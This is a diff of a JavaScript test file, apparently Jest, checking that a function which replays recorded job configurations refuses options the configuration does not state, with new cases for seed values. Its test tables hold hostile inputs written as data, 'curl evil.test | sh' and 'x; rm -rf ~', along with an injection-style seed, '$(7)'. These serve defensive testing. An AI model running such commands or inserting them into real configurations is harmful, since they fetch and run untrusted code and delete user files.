@@ -289,7 +289,6 @@ describe('a recording that another job made', () => {
     ['setup', { setup: null }, null],
     ['run', { commands: ['curl evil.test | sh'] }, 'curl evil.test | sh'],
     ['run', { commands: ['make', 'make'] }, 'make\nmake'],
-    ['seed', { seed: 'reviewed and accepted' }, 'reviewed and accepted'],
     ['format', { format: 'accepted' }, 'accepted'],
     ['cpus', { cpus: 'all is well' }, 'all is well'],
     ['working-directory', { workingDirectory: 'x; rm -rf ~' }, 'x; rm -rf ~'],
@@ -297,6 +296,18 @@ describe('a recording that another job made', () => {
   ])('no command holds a %s that the configuration does not say', (option, schedule, value) => {
     expect(repeatOf(schedule)).toEqual({ leg: null, words: null, obstacles: [{ option, recorded: value }] });
   });
+
+  test.each(['7', '20261009', 'CAFE', '0'.repeat(32)])('a seed that says nothing is repeated: %s', (seed) => {
+    expect(repeatOf({ seed }).words).toEqual(expect.arrayContaining(['--seed', seed]));
+  });
+
+  test.each(['reviewed and accepted', 'reviewed', '-7', '$(7)', '0'.repeat(33)])(
+    'no command holds another seed, which only a flag can set: %s',
+    (seed) => {
+      const obstacles = [{ option: 'seed', recorded: seed, flag: '--seed' }];
+      expect(repeatOf({ seed })).toEqual({ leg: null, words: null, obstacles });
+    },
+  );
 
   test('legs are told apart, and share alpha', () => {
     const legs = ['linux', 'macos'].map((name) => ({ ...recorded({}), name }));
